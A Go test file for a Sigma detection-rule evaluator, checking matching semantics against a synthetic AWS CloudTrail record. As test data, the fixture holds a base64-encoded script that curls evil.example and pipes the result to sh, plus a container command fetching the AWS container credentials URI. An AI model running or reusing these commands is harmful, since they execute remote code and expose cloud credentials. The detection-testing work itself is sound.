package sigma

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

// record decodes a JSON object as the evaluator receives it.
func record(t testing.TB, s string) map[string]any {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(s))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("bad test record %s: %v", s, err)
	}
	return m
}

// oneRule parses a rule whose detection is body (YAML lines indented by
// four spaces under `detection:`), with condition `sel` unless body has
// one.
func oneRule(t testing.TB, body string) *Rule {
	t.Helper()
	src := ruleHead + "detection:\n" + body
	if !strings.Contains(body, "condition:") {
		src += "    condition: sel\n"
	}
	rules, err := Parse("t.yml", []byte(src))
	if err != nil {
		t.Fatalf("%s: %v", body, err)
	}
	return rules[0]
}

const cloudtrailRecord = `{
  "eventVersion": "1.09",
  "eventTime": "2024-08-01T12:04:24Z",
  "eventSource": "ec2.amazonaws.com",
  "eventName": "RunInstances",
  "awsRegion": "us-east-1",
  "sourceIPAddress": "10.1.2.3",
  "userAgent": "aws-cli/2.15.0 Python/3.11 Linux/6.1 botocore/1.34",
  "errorCode": null,
  "readOnly": false,
  "managementEvent": true,
  "userIdentity": {
    "type": "IAMUser",
    "arn": "arn:aws:iam::123456789012:user/Alice",
    "accountId": "123456789012",
    "userName": "Alice",
    "sessionContext": {"attributes": {"mfaAuthenticated": "false"}}
  },
  "requestParameters": {
    "port": 443,
    "ratio": 1.50,
    "enable": false,
    "userName": "alice",
    "tags": [],
    "filterSet": {},
    "userData": "IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==",
    "containerDefinitions": [
      {"name": "a", "command": ["sh", "-c", "curl $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]},
      {"name": "b", "command": "echo hi", "image": null}
    ],
    "instancesSet": {"items": [{"instanceId": "i-1"}, {"instanceId": "i-2"}]},
    "policy": {"Statement": [{"Effect": "Allow", "Action": "s3:GetObject"}]}
  },
  "responseElements": null,
  "additionalEventData": {"MFAUsed": "No", "empty": ""},
  "tlsDetails": {"clientProvidedHostHeader": "ec2.us-east-1.amazonaws.com"},
  "v6": "2001:db8::1",
  "mapped": "::ffff:192.0.2.7",
  "encoded": "YwBtAGQAIAAvAGMAIABwAGkAbgBnACAAMQAuADIALgAzAC4ANAA=",
  "encoded2": "eABjAG0AZAAgAC8AYwAgAHAAaQBuAGcAIAAxAC4AMgAuADMALgA0AA==",
  "encoded3": "eAB4AGMAbQBkACAALwBjACAAcABpAG4AZwAgADEALgAyAC4AMwAuADQA",
  "be": "AHAAaQBuAGc=", "bom": "//5wAGkAbgBnAA==",
  "CaseKey": "lower", "casekey": "UPPER"
}`

// TestMatch checks the matching semantics of doc.go, one search at a time.
func TestMatch(t *testing.T) {
	rec := record(t, cloudtrailRecord)
	f := func(body string, want bool) {
		t.Helper()
		r := oneRule(t, body)
		got, err := Match(r, rec)
		if err != nil {
			t.Fatalf("%s: %v", body, err)
		}
		if got != want {
			t.Errorf("%sgot %v, want %v", body, got, want)
		}
	}
	sel := func(lines ...string) string { return "    sel:\n        " + strings.Join(lines, "\n        ") + "\n" }

	// Plain values: whole value, case-insensitive; lists are OR; maps AND.
	f(sel("eventName: RunInstances"), true)
	f(sel("eventName: runinstances"), true)
	f(sel("eventName: RunInstance"), false)
	f(sel("eventName: [StopLogging, RunInstances]"), true)
	f(sel("eventName: RunInstances", "eventSource: s3.amazonaws.com"), false)
	f("    sel:\n        - eventName: Nope\n        - eventSource: EC2.amazonaws.com\n", true)
	f("    sel:\n        - eventName: Nope\n        - eventSource: s3.amazonaws.com\n", false)
	// Field names: case-insensitive keys, dotted paths.
	f(sel("EVENTNAME: RunInstances"), true)
	f(sel("useridentity.ARN: 'arn:aws:iam::123456789012:user/alice'"), true)
	f(sel("userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'"), true)
	f(sel("casekey: upper"), true) // every key folding equal is followed
	f(sel("casekey: lower"), true)
	// Wildcards and escapes.
	f(sel("eventName: 'Run*'"), true)
	f(sel("eventName: 'Run?nstances'"), true)
	f(sel("eventName: 'Run??nstances'"), false)
	f(sel("eventName: '*'"), true)
	f(sel(`userAgent: 'aws-cli/2.15.0 Python/3.11 Linux/6.1 botocore/1.3\*'`), false)
	f(sel(`userAgent: 'aws-cli*botocore/1.3?'`), true)
	// Numbers and booleans match their string form, both ways.
	f(sel("requestParameters.port: 443"), true)
	f(sel("requestParameters.port: '443'"), true)
	f(sel("requestParameters.port: 44"), false)
	f(sel("requestParameters.port|startswith: 44"), true)
	f(sel("requestParameters.ratio: '1.50'"), true)
	f(sel("requestParameters.ratio: 1.5"), false) // the JSON text is 1.50
	f(sel("requestParameters.enable: 'false'"), true)
	f(sel("requestParameters.enable: false"), true)
	f(sel("requestParameters.enable: 'FALSE'"), true)
	f(sel("managementEvent: true"), true)
	f(sel("readOnly: true"), false)
	// null: missing or JSON null; '' only the empty string.
	f(sel("errorCode: null"), true)
	f(sel("errorMessage: null"), true)
	f(sel("eventName: null"), false)
	f(sel("requestParameters.containerDefinitions.image: null"), true) // one element has null
	f(sel("requestParameters.containerDefinitions.name: null"), false)
	f(sel("requestParameters.tags: null"), true) // [] has no value
	f(sel("additionalEventData.empty: ''"), true)
	f(sel("errorCode: ''"), false)
	f(sel("errorMessage: ''"), false)
	f(sel("eventName: ''"), false)
	f(sel("eventName: [null, RunInstances]"), true)
	// exists.
	f(sel("errorCode|exists: true"), true) // present, null
	f(sel("errorMessage|exists: true"), false)
	f(sel("errorMessage|exists: false"), true)
	f(sel("requestParameters.tags|exists: true"), true)
	f(sel("requestParameters.containerDefinitions.image|exists: true"), true)
	f(sel("requestParameters.instancesSet.items.instanceId|exists: 'false'"), false)
	// Arrays are fanned out on the way and flattened at the end.
	f(sel("requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'"), true)
	f(sel("requestParameters.containerDefinitions.command: 'echo hi'"), true)
	f(sel("requestParameters.containerDefinitions.command: sh"), true)
	f(sel("requestParameters.instancesSet.items.instanceId: i-2"), true)
	f(sel("requestParameters.instancesSet.items.instanceId|all: [i-1, i-2]"), true)
	f(sel("requestParameters.instancesSet.items.instanceId|all: [i-1, i-3]"), false)
	// contains, startswith, endswith, all, cased.
	f(sel("userAgent|contains: PYTHON/3"), true)
	f(sel("userAgent|startswith: AWS-CLI"), true)
	f(sel("userAgent|startswith: python"), false)
	f(sel("userAgent|endswith: BOTOCORE/1.34"), true)
	f(sel("userAgent|endswith|cased: BOTOCORE/1.34"), false)
	f(sel("userAgent|contains|cased: Python"), true)
	f(sel("userAgent|cased: 'aws-cli*'"), true)
	f(sel("userAgent|cased: 'AWS-CLI*'"), false)
	f(sel("userAgent|contains|all: [python, linux, botocore]"), true)
	f(sel("userAgent|contains|all: [python, windows]"), false)
	f(sel("userAgent|contains: [windows, linux]"), true)
	// Objects match as their compact JSON text, keys sorted.
	f(sel(`requestParameters.policy|contains: '"Effect":"Allow"'`), true)
	f(sel(`requestParameters|contains: 's3:GetObject'`), true)
	f(sel(`requestParameters|contains|all: ['"s3:GetObject"', '"Allow"']`), true)
	f(sel(`requestParameters.filterSet: '{}'`), true)
	f(sel(`requestParameters.instancesSet.items: '{"instanceId":"i-1"}'`), true)
	f(sel(`responseElements|contains: '*'`), false) // JSON null
	// re: RE2, unanchored, case-sensitive unless i.
	f(sel(`userIdentity.arn|re: ':user/Al'`), true)
	f(sel(`userIdentity.arn|re: ':user/al'`), false)
	f(sel(`userIdentity.arn|re|i: ':user/al'`), true)
	f(sel(`userIdentity.arn|re: '(?i):USER/AL'`), true)
	f(sel(`userIdentity.arn|re: '^arn:aws:iam::\d{12}:user/[A-Z]\w+$'`), true)
	f(sel(`requestParameters.port|re: '^4\d3$'`), true)
	f(sel(`errorCode|re: '.*'`), false) // null has no text
	f(sel(`eventName|re: [^Stop, ^Run]`), true)
	// cidr.
	f(sel("sourceIPAddress|cidr: 10.0.0.0/8"), true)
	f(sel("sourceIPAddress|cidr: 10.1.2.3"), true)
	f(sel("sourceIPAddress|cidr: 192.168.0.0/16"), false)
	f(sel("v6|cidr: 2001:db8::/32"), true)
	f(sel("v6|cidr: 10.0.0.0/8"), false)
	f(sel("mapped|cidr: 192.0.2.0/24"), true)
	f(sel("eventName|cidr: 0.0.0.0/0"), false)
	f(sel("requestParameters.port|cidr: 0.0.0.0/0"), false)
	// fieldref.
	f(sel("userIdentity.userName|fieldref: requestParameters.userName"), true) // Alice = alice
	f(sel("userIdentity.userName|fieldref|cased: requestParameters.userName"), false)
	f(sel("userIdentity.arn|fieldref: requestParameters.userName"), false)
	f(sel("userIdentity.arn|fieldref|endswith: requestParameters.userName"), true)
	f(sel("userIdentity.arn|fieldref|contains: userIdentity.accountId"), true)
	f(sel("userIdentity.arn|fieldref|startswith: userIdentity.accountId"), false)
	f(sel("errorCode|fieldref: errorMessage"), false)    // null and missing never match
	f(sel("userIdentity|fieldref: userIdentity"), false) // objects never match
	f(sel("requestParameters.containerDefinitions.name|fieldref: requestParameters.containerDefinitions.name"), true)
	// base64 and base64offset.
	f(sel(`requestParameters.userData|base64|startswith: "#!/bin/bash\n"`), true)
	f(sel("requestParameters.userData|base64|startswith: '#!/bin/bash'"), false) // padded: IyEvYmluL2Jhc2g=
	f(sel("requestParameters.userData|base64offset|contains: 'http://evil.example'"), true)
	f(sel("requestParameters.userData|base64offset|contains: 'curl'"), true)
	f(sel("requestParameters.userData|base64offset|contains: 'wget'"), false)
	f(sel("requestParameters.userData|base64offset|contains|cased: 'http://EVIL.example'"), false)
	// utf16 encodings before base64 (PowerShell's -EncodedCommand).
	f(sel("encoded|wide|base64offset|contains: 'ping 1.2'"), true)
	f(sel("encoded2|wide|base64offset|contains: 'ping 1.2'"), true)
	f(sel("encoded3|utf16le|base64offset|contains: 'ping 1.2'"), true)
	f(sel("encoded|base64offset|contains: 'ping 1.2'"), false)
	// Big-endian shifted by one byte is little-endian: an offset variant
	// matches.
	f(sel("encoded|utf16be|base64offset|contains: 'ping 1.2'"), true)
	f(sel("encoded|wide|base64offset|contains: 'pong'"), false)
	f(sel("be|utf16be|base64: 'ping'"), true)
	f(sel("bom|utf16|base64: 'ping'"), true)
	// Keywords: every scalar value, substring unless wildcards.
	f("    sel:\n        - RELATIVE_URI\n", true)
	f("    sel:\n        - nothing-here\n        - evil.example\n", false) // base64 is not decoded
	f("    sel:\n        - 'i-?'\n", true)
	f("    sel:\n        - 'i-'\n", true)
	f("    sel:\n        - 'Run*'\n", true)
	f("    sel:\n        - 'unInstan*'\n", false) // wildcards: whole value
	f("    sel:\n        - 443\n", true)
	f("    sel:\n        - eventName\n", false) // keys are not searched
	f("    sel:\n        '|all':\n            - RunInstances\n            - Alice\n", true)
	f("    sel:\n        '|all':\n            - RunInstances\n            - Bob\n", false)
	f("    sel:\n        '|re': '^i-\\d$'\n", true)
	// Conditions.
	f("    sel:\n        eventName: RunInstances\n    filter:\n        userIdentity.type: IAMUser\n    condition: sel and not filter\n", false)
	f("    sel_1:\n        eventName: X\n    sel_2:\n        eventName: RunInstances\n    condition: 1 of sel_*\n", true)
	f("    sel_1:\n        eventName: X\n    sel_2:\n        eventName: RunInstances\n    condition: all of sel_*\n", false)
	f("    sel_1:\n        eventName: X\n    _f:\n        eventName: RunInstances\n    condition: 1 of them\n", false)
	f("    sel_1:\n        eventName: X\n    _f:\n        eventName: RunInstances\n    condition: 1 of _*\n", true)
	f("    a:\n        eventName: X\n    b:\n        eventName: RunInstances\n    condition: not (a or not b)\n", true)
}

// TestMatchRefuses checks that Match refuses what it cannot evaluate.
func TestMatchRefuses(t *testing.T) {
	rules, err := Parse("c.yml", []byte("title: c\ncorrelation:\n    type: temporal\n    rules: [a]\n    timespan: 1h\n"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Match(rules[0], map[string]any{}); err == nil || err.Error() != "sigma: c.yml:1: a correlation rule is evaluated by Correlate, not Match" {
		t.Errorf("correlation: %v", err)
	}
	r := oneRule(t, "    sel:\n        a|wide: x\n")
	if _, err := Match(r, map[string]any{}); !errors.Is(err, ErrUnsupported) || err.Error() != `sigma: rule uses an unsupported feature: t.yml:1: modifier "wide" on field a` {
		t.Errorf("unsupported: %v", err)
	}
	if _, err := Match(nil, nil); err == nil {
		t.Error("nil rule: no error")
	}
}

// TestLookupText checks the value forms the compiler must reproduce.
func TestLookupText(t *testing.T) {
	rec := record(t, cloudtrailRecord)
	f := func(path string, want string, wantFound bool) {
		t.Helper()
		vals, found := Lookup(rec, strings.Split(path, "."))
		var parts []string
		for _, v := range vals {
			s, ok := Text(v)
			if !ok {
				s = "<null>"
			}
			parts = append(parts, s)
		}
		if got := strings.Join(parts, "|"); got != want || found != wantFound {
			t.Errorf("%s: got %q %v, want %q %v", path, got, found, want, wantFound)
		}
	}
	f("eventName", "RunInstances", true)
	f("errorCode", "<null>", true)
	f("errorMessage", "", false)
	f("requestParameters.port", "443", true)
	f("requestParameters.ratio", "1.50", true)
	f("requestParameters.enable", "false", true)
	f("requestParameters.tags", "", true)
	f("requestParameters.containerDefinitions.command", "sh|-c|curl $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI|echo hi", true)
	f("requestParameters.containerDefinitions.image", "<null>", true)
	f("requestParameters.policy", `{"Statement":[{"Action":"s3:GetObject","Effect":"Allow"}]}`, true)
	f("requestParameters.instancesSet.items", `{"instanceId":"i-1"}|{"instanceId":"i-2"}`, true)
	f("eventName.x", "", false)
	if g := Field(rec, []string{"userIdentity", "userName"}); g != (GroupValue{Value: "Alice"}) {
		t.Errorf("Field userName: %v", g)
	}
	if g := Field(rec, []string{"CASEKEY"}); g != (GroupValue{Value: "lower"}) { // "CaseKey" < "casekey"
		t.Errorf("Field CASEKEY: %v", g)
	}
	if g := Field(rec, []string{"casekey"}); g != (GroupValue{Value: "UPPER"}) { // exact case first
		t.Errorf("Field casekey: %v", g)
	}
	for _, p := range []string{"errorCode", "errorMessage", "userIdentity", "requestParameters.tags", "requestParameters.instancesSet.items.instanceId"} {
		if g := Field(rec, strings.Split(p, ".")); !g.Null {
			t.Errorf("Field %s: %v, want null", p, g)
		}
	}
	if got := strings.Join(Scalars(map[string]any{"b": []any{json.Number("1"), true, nil}, "a": "x"}), ","); got != "x,1,true" {
		t.Errorf("Scalars: %q", got)
	}
	// float64 records (decoded without UseNumber) read the same.
	var plain map[string]any
	if err := json.NewDecoder(bytes.NewReader([]byte(`{"p": 443}`))).Decode(&plain); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Match(oneRule(t, "    sel:\n        p: 443\n"), plain); !ok {
		t.Error("float64 443 does not match 443")
	}
}
